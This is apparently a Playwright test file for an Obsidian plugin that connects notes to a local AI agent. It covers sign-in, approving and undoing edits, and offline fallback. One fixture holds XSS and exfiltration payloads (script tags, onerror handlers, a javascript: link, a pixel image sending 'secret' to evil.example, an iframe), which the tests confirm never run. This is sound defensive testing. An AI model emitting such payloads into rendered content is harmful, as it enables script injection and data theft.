"""The plugin beside a person's notes: it signs in by a code, talks, decides, undoes, relates; no text of a stranger's
does anything in it."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from agent.interfaces.http.door.browsers import browsers_of, load_token
from tests.integrations.obsidian.desk import Desk, desk
from tests.interfaces.http.pages.house import House, open_house
from tests.stories.agents import NOTES, call

READ = {"task": "tea", **call("vault_read", path="tea.md")}
TOLD = {"task": "tea", "text": "Green **tea**, see [[tea]].\n\n- one\n  - two\n- three\n\n```js\nlet x = 1\n```"}
CHANGE = {"task": "be longer", **call("vault_edit", path="AGENT.md", old="Be brief.", new="Be long.")}
CHANGED = {"task": "be longer", "text": "As you like."}
QUESTION = {"task": "Which", **call("human_ask", question="Which tea?", options=["green", "black"])}
ANSWERED = {"task": "Which", "text": "Noted: green."}
WRITES = {"task": "add milk", **call("vault_edit", path="plan.md", old="- buy tea", new="- buy tea\n- buy milk")}
WROTE = {"task": "add milk", "text": "It is on the list."}
HOSTILE = "\n\n".join(
    (
        "<img src=x onerror=ran()><script>ran()</script>",
        "![pixel](https://evil.example/?q=secret)",
        "![[secret.png]]",
        "[click](javascript:ran())",
        "[bank](https://evil.example/login)",
        "```dataviewjs\nran()\n```",
        "| a | <b>b</b> |\n|---|---|\n| <img src=x> | d |",
        "> <iframe src='https://evil.example'></iframe>",
        ">" * 20_000 + " deep",
    )
)
SPOKEN = {"task": "hostile", "text": HOSTILE}


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    replies = (READ, TOLD, CHANGE, CHANGED, QUESTION, ANSWERED, WRITES, WROTE, SPOKEN)
    with open_house(tmp_path, NOTES, *replies) as found:
        yield found


@pytest.fixture
def at(browser: Browser, house: House) -> Iterator[Desk]:
    with desk(browser, house) as found:
        found.open()
        yield found
        assert found.problems == []


@pytest.fixture
def signed_in(at: Desk) -> Desk:
    at.sign_in()
    at.open_pane()
    return at


def test_a_code_signs_in_once_and_its_key_is_in_no_note(at: Desk) -> None:
    expect(at.page.locator("#status")).to_have_text("agent not connected")
    at.sign_in()
    expect(at.page.locator("#status")).to_have_text("agent ready")
    (app,) = (each for each in browsers_of(at.house.workspace).all() if each.is_app)
    assert app.name == "Obsidian, Linux"
    key = at.page.evaluate("standIn.plugin.connection.token")
    files = (each for each in at.house.root.rglob("*") if each.is_file())
    assert key != load_token(at.house.workspace)
    assert [each for each in files if key.encode() in each.read_bytes()] == []
    at.open()
    expect(at.page.locator("#status")).to_have_text("agent ready")
    at.page.evaluate("standIn.plugin.openSettings()")
    at.page.get_by_role("button", name="Disconnect").click()
    expect(at.page.locator("#status")).to_have_text("agent not connected")
    assert not any(each.is_app for each in browsers_of(at.house.workspace).all())


def test_an_address_to_which_a_key_would_go_unprotected_is_refused(at: Desk) -> None:
    at.page.evaluate("standIn.plugin.openSettings()")
    for wrong in ("http://192.168.1.5:8765", "javascript:alert(1)", "https://me:secret@a.example", "nonsense"):
        field = at.page.get_by_label("Address")
        field.fill(wrong)
        field.blur()
        expect(at.page.locator("#notices").get_by_text("no address of this machine").last).to_be_visible()
        expect(field).to_have_value("http://127.0.0.1:8765")


def test_another_vaults_agent_is_not_connected(at: Desk) -> None:
    at.page.evaluate("document.body.dataset.vault = 'recipes'")
    at.type_code()
    expect(at.page.locator("#notices")).to_contain_text("this one is recipes")
    assert not any(each.is_app for each in browsers_of(at.house.workspace).all())
    at.refused.add("DELETE")
    at.type_code()
    expect(at.page.locator("#notices").get_by_text("this one is recipes")).to_have_count(2)
    at.open("")
    at.page.evaluate("standIn.plugin.openSettings()")
    expect(at.page.locator("#settings").get_by_role("button", name="Connect", exact=True)).to_be_visible()


def test_an_answer_has_its_receipts_as_links_of_the_vault(signed_in: Desk) -> None:
    page = signed_in.page
    signed_in.ask("tea?")
    answer = page.locator(".vault-agent-agent .vault-agent-body")
    expect(answer.locator("strong")).to_have_text("tea")
    expect(answer.locator("pre code")).to_have_text("let x = 1")
    expect(answer.locator("li li")).to_have_text("two")
    receipt = answer.locator(".vault-agent-receipts a").filter(has_text="tea").first
    page.evaluate("standIn.app.workspace.on('hover-link', (said) => (window.hovered = said.linktext))")
    receipt.hover()
    assert page.evaluate("window.hovered") == "tea.md"
    receipt.click()
    answer.locator("p a.internal-link").click()
    assert [note for note, _ in page.evaluate("standIn.app.workspace.opened")] == ["tea.md", "tea"]


def test_what_needs_a_yes_is_decided_in_the_pane_and_goes_on_there(signed_in: Desk) -> None:
    page = signed_in.page
    signed_in.ask("be longer")
    need = page.locator(".vault-agent-need")
    expect(need.locator("pre")).to_contain_text("May I change AGENT.md?")
    expect(need.locator("pre")).to_contain_text("-Be brief.")
    expect(page.locator("#status")).to_have_text("agent: 1 need you")
    need.get_by_role("button", name="Yes").click()
    expect(page.get_by_text("Nothing waits for you.")).to_be_visible()
    signed_in.house.until(lambda: "Be long." in (signed_in.house.root / "AGENT.md").read_text(), "it has gone on")
    expect(page.locator("#status")).to_have_text("agent ready")


def test_a_question_is_answered_by_a_button(signed_in: Desk) -> None:
    page = signed_in.page
    signed_in.ask("Which?")
    page.locator(".vault-agent-need").get_by_role("button", name="green").click()
    expect(page.get_by_text("Nothing waits for you.")).to_be_visible()
    note = next((signed_in.house.root / "questions").glob("*.md"))
    assert "- [x] green" in note.read_text()


def test_the_agents_last_change_is_undone_on_the_notes_menu(signed_in: Desk) -> None:
    page, plan = signed_in.page, signed_in.house.root / "plan.md"
    signed_in.ask("add milk")
    expect(page.get_by_text("It is on the list.")).to_be_visible()
    assert "milk" in plan.read_text()
    page.evaluate("standIn.menu('plan.md')")
    page.get_by_role("button", name="Undo the agent's last change here").click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_role("listitem")).to_have_text("plan.md")
    dialog.get_by_role("button", name="Undo").click()
    expect(page.locator("#notices")).to_contain_text("Undone")
    assert "milk" not in plan.read_text()
    page.get_by_role("button", name="Undo the agent's last change here").click()
    expect(page.locator("#notices")).to_contain_text("nothing here that is still to undo")


def test_a_question_about_a_selection_names_its_lines_and_sends_none_of_them(signed_in: Desk) -> None:
    page = signed_in.page
    page.evaluate("standIn.write('tea.md', '# Tea\\n\\nGreen tea in the morning.\\n', 2, 2)")
    page.evaluate("standIn.editorMenu()")
    page.get_by_role("button", name="Ask the agent about this selection").click()
    expect(page.locator(".vault-agent-chip")).to_contain_text("About tea, lines 3–3")
    signed_in.ask("tea: when?")
    expect(page.locator(".vault-agent-you .vault-agent-body")).to_have_text(
        "About lines 3–3 of the note [[tea]]:\n\ntea: when?"
    )
    expect(page.locator(".vault-agent-chip")).to_be_hidden()
    assert page.evaluate("standIn.app.workspace.view.saved") == 1
    expect(page.locator(".vault-agent-receipts")).to_be_visible()


def test_related_notes_follow_what_is_written(signed_in: Desk) -> None:
    page = signed_in.page
    page.evaluate("standIn.write('new.md', 'Which green tea do I drink in the morning?')")
    related = page.locator(".vault-agent-related a")
    expect(related.first).to_have_text("tea")
    page.evaluate("standIn.write('tea.md', 'Which green tea do I drink in the morning?')")
    expect(related.filter(has_text="tea")).to_have_count(0)


def test_a_strangers_text_in_an_answer_does_nothing(signed_in: Desk) -> None:
    page = signed_in.page
    page.evaluate("() => { window.ran = () => { window.hasRun = true } }")
    asked = list[str]()
    page.on("request", lambda request: asked.append(request.url))
    signed_in.ask("hostile")
    answer = page.locator(".vault-agent-agent .vault-agent-body")
    expect(answer).to_contain_text("<img src=x onerror=ran()>")
    expect(answer.locator("img, script, iframe, b, [onerror]")).to_have_count(0)
    expect(answer).to_contain_text("[click](javascript:ran())")
    expect(answer).to_contain_text("> deep")
    expect(answer.get_by_text("bank (evil.example)")).to_be_visible()
    assert page.evaluate("window.hasRun") is None
    assert [each for each in asked if "evil" in each] == []
    assert all(each.startswith(signed_in.house.url) for each in signed_in.sent)


def test_whoever_is_signed_out_elsewhere_is_told_and_nothing_typed_is_lost(signed_in: Desk) -> None:
    browsers, page = browsers_of(signed_in.house.workspace), signed_in.page
    browsers.end([each.id for each in browsers.all() if each.is_app])
    signed_in.ask("tea?")
    expect(page.locator("#status")).to_have_text("agent not connected")
    expect(page.locator(".vault-agent-state")).to_contain_text("not connected")
    expect(page.get_by_placeholder("Ask the agent…")).to_have_value("tea?")


def test_an_agent_that_is_away_leaves_a_note_instead(signed_in: Desk) -> None:
    page, root = signed_in.page, signed_in.house.root
    page.evaluate("standIn.plugin.connection.setAddress('http://127.0.0.1:9')")
    signed_in.ask("water the plants: all/of them?")
    page.get_by_role("button", name="Leave it as a note").click()
    expect(page.get_by_text("Your request is the note inbox/")).to_be_visible()
    (note,) = (root / "inbox").glob("*water the plants all of them*.md")
    assert note.read_text().startswith("---\nagent: ask\n---\n\nwater the plants: all/of them?\n")


def test_a_phone_says_that_requests_become_notes_and_asks_no_daemon(browser: Browser, house: House) -> None:
    (house.root / "vault-agent.yaml").write_text("vault:\n  folder: Agent\n")
    with desk(browser, house) as at:
        at.page.goto(at.url + "?mobile")
        at.page.wait_for_function("window.standIn && standIn.plugin.commands.length")
        at.open_pane()
        expect(at.page.locator(".vault-agent-state")).to_contain_text("Agent/inbox")
        at.ask("tea?")
        expect(at.page.get_by_text("Your request is the note Agent/inbox/")).to_be_visible()
        assert at.sent == [] and at.problems == []
        assert [each.name.endswith("tea?.md") for each in (house.root / "Agent/inbox").iterdir()] == [False]


def test_the_pane_speaks_chinese(browser: Browser, house: House) -> None:
    with desk(browser, house) as at:
        at.open("?language=zh")
        expect(at.page.locator("#status")).to_have_text("还没有连接助手")
